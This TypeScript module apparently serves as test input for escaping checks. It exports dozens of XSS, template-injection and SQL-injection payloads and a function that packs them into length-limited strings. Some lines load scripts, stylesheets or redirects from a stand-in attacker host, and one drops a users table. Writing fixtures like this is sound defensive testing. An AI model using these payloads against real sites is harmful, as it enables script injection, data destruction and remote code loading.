/** Words that turn into something else wherever text is taken for markup, an address, a style or a template. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<img src=https://evil.example/x.png>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror='alert(1)'>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><style><img src=x onerror=alert(1)></style>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=//evil.example/x.swf>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(//evil.example/x.png)">x</div>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  'javascript:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}${alert(1)}#{alert(1)}<%= alert(1) %>',
  '{n} {name} {q} | {title}',
  "'; DROP TABLE users; -- $& $1 $`",
]

/** The same, as few texts as fit into so many characters each. */
export const packed = (limit: number): string[] => {
  const texts: string[] = []
  for (const payload of payloads) {
    const longer = `${texts.at(-1)} ${payload}`
    if (texts.length > 0 && longer.length <= limit) texts[texts.length - 1] = longer
    else texts.push(payload)
  }
  return texts
}
